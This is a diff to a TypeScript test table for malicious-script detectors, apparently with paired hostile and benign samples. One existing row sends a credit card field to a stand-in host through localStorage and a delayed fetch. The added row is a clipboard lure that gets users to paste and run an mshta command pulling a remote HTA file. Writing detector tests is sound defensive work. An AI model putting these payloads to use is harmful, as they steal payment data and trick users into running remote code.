@@ -65,6 +65,9 @@ const table: [string, string, string][] = [
   ['storage-staging',
     'localStorage.setItem("k", document.getElementById("cc_number").value); setTimeout(function () { fetch("https://e.example/" + localStorage.getItem("k")); }, 9000);',
     'localStorage.setItem("theme", "dark"); setTimeout(function () { fetch("https://e.example/" + localStorage.getItem("k")); }, 9000);'],
+  ['clipboard-command-lure',
+    'p.innerHTML = "Press Win + R, then Ctrl + V"; b.onclick = function () { navigator.clipboard.writeText("mshta https://x.example/v.hta"); };',
+    'p.innerHTML = "Copy the command below"; b.onclick = function () { navigator.clipboard.writeText(code.textContent); };'],
 ];
 
 describe('detectors', () => {
